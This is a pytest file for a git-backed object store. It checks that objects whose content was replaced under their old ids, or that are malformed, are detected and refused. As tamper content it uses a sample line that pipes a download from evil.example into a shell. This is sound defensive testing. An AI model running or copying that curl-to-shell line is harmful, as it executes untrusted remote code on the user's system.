"""Objects whose content was replaced under their old ids, which git does not check, are never used."""

from __future__ import annotations

import shutil
import subprocess
import zlib
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest

from trajectories.errors import RunBroken
from trajectories.git_store.object_reader import Reader
from trajectories.git_store.packs import object_id
from trajectories.git_store.trees import EMPTY_TREE, FEW_FILES, Trees

EVIL = b"import os; os.system('curl evil.example | sh')\n"
MANY = {f"many/{number}": b"" for number in range(FEW_FILES + 1)}


def replace_object(store: Path, id: str, data: bytes) -> None:
    """Give an object other content under the same id, as an attacker with write access to the store could."""
    packs = store / "objects" / "pack"
    for pack in list(packs.glob("*.pack")):
        moved_pack = pack.rename(store / pack.name)
        pack.with_suffix(".idx").unlink()
        with moved_pack.open("rb") as file:
            subprocess.run(["git", "unpack-objects", "-q"], env={"GIT_DIR": str(store)}, stdin=file, check=True)
        moved_pack.unlink()
    shutil.rmtree(packs)
    packs.mkdir()
    loose = store / "objects" / id[:2] / id[2:]
    kind = zlib.decompress(loose.read_bytes()).split(b" ")[0]
    loose.unlink()
    loose.write_bytes(zlib.compress(b"%b %d\0%b" % (kind, len(data), data)))


@pytest.fixture(params=[{}, MANY], ids=["few files", "many files"])
def states(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Path, str, str]:
    with Trees(tmp_path / "trees.git") as trees:
        old = trees.write({**request.param, "a/core.py": b"a - b\n"}, EMPTY_TREE)
        return trees.path, old, trees.write({"a/core.py": b"a + b\n"}, old)


TreeQuery = Callable[[Trees, str, str], object]
FILE_QUERIES: dict[str, TreeQuery] = {
    "diff": lambda trees, old, new: trees.diff(old, new),
    "diff of paths": lambda trees, old, new: trees.diff(old, new, ["a/core.py"]),
    "read": lambda trees, old, new: trees.read(new, "a/core.py"),
    "check": lambda trees, old, new: trees.check_difference(old, new),
}
FOLDER_QUERIES: dict[str, TreeQuery] = {
    "changed": lambda trees, old, new: trees.changed(old, new),
    "files": lambda trees, old, new: trees.files(new),
    "overlay": lambda trees, old, new: trees.overlay(new, old, ["a"]),
    "write": lambda trees, old, new: trees.write({"a/ b": b""}, new),
}


@pytest.mark.parametrize("query", FILE_QUERIES.values(), ids=FILE_QUERIES)
def test_replaced_file_is_not_used(query: TreeQuery, states: tuple[Path, str, str]) -> None:
    path, old, new = states
    replace_object(path, object_id("blob", b"a + b\n"), EVIL)
    with Trees(path) as trees, pytest.raises(RunBroken, match="is damaged: its content does not match its id"):
        query(trees, old, new)


@pytest.mark.parametrize(
    "query", [*FILE_QUERIES.values(), *FOLDER_QUERIES.values()], ids=[*FILE_QUERIES, *FOLDER_QUERIES]
)
def test_replaced_folder_is_not_used(query: TreeQuery, states: tuple[Path, str, str]) -> None:
    path, old, new = states
    with Trees(path) as trees:
        evil = bytes.fromhex(object_id("blob", EVIL))
        trees.write({"evil": EVIL}, EMPTY_TREE)
        _, folder = trees.entry(new, "a") or ("", "")
    replace_object(path, folder, b"100644 core.py\0" + evil)
    with Trees(path) as trees, pytest.raises(RunBroken, match="is damaged: its content does not match its id"):
        query(trees, old, new)


@pytest.mark.parametrize("content", [EVIL, b"", b"a + b\n and more"], ids=["other", "empty", "longer"])
def test_blobs_beside_a_replaced_one_are_read(content: bytes, states: tuple[Path, str, str]) -> None:
    path, old, new = states
    replaced, missing = object_id("blob", b"a + b\n"), "0" * 40
    replace_object(path, replaced, content)
    with Trees(path) as trees:
        first = trees.files(old)["a/core.py"].id
        asked = [first, replaced, first, missing, new, first]
        assert list(trees.read_blobs(asked)) == [b"a - b\n", None, b"a - b\n", None, None, b"a - b\n"]
        assert list(trees.read_blobs([first, first], limit=3)) == [None, None]
        assert list(trees.read_blobs([first] * 1000)) == [b"a - b\n"] * 1000


def test_replaced_file_too_large_for_memory_is_detected(states: tuple[Path, str, str]) -> None:
    path, _, _ = states
    id = object_id("blob", b"a + b\n")
    with Trees(path) as trees, closing(Reader(trees.env, path)) as reader:
        reader.check(id)
        assert reader.get(id) == ("blob", b"a + b\n")
    replace_object(path, id, EVIL * 100_000)
    with Trees(path) as trees, closing(Reader(trees.env, path)) as reader:
        for _ in range(2):
            with pytest.raises(RunBroken, match="its content does not match its id"):
                reader.check(id)
            assert reader.get(EMPTY_TREE) == ("tree", b"")


@pytest.mark.parametrize("suffix", [b"\nx missing", b"\n", b"x" * 300, b"x" * 5_000_000])
def test_bytes_after_object_are_not_read_as_next_reply(suffix: bytes, tmp_path: Path) -> None:
    """git returns them after the object, where they can look like its reply to the next request."""
    with Trees(tmp_path / "trees.git") as trees:
        old = trees.write({"empty.py": b""}, EMPTY_TREE)
        new = trees.write({"empty.py": b"a + b\n"}, old)
        path = trees.path
    replace_object(path, object_id("blob", b"a + b\n"), EVIL)
    write_loose(path, object_id("blob", b""), b"blob 0\0" + suffix)
    for _ in range(5):  # the two files are read in any order
        with Trees(path) as trees, pytest.raises(RunBroken):
            trees.diff(old, new)


@pytest.mark.parametrize("data", [b"blob 9\0abc", b"blob 999999999\0abc", b"x" * 5_000_000, b"blob 3", b"blob x\0abc"])
def test_malformed_object_is_refused(data: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("trajectories.git_store.object_reader.SILENCE", 0.5)
    with Trees(tmp_path / "trees.git") as trees:
        id = object_id("blob", b"abc")
        write_loose(trees.path, id, data)
        with pytest.raises(RunBroken):
            trees.read_blob(id)


def write_loose(store: Path, id: str, data: bytes) -> None:
    file = store / "objects" / id[:2] / id[2:]
    file.parent.mkdir(exist_ok=True)
    file.unlink(missing_ok=True)
    file.write_bytes(zlib.compress(data))


def test_diff_of_tree_with_itself_is_empty(states: tuple[Path, str, str]) -> None:
    path, old, _ = states
    with Trees(path) as trees:
        assert trees.diff(old, old) == ""
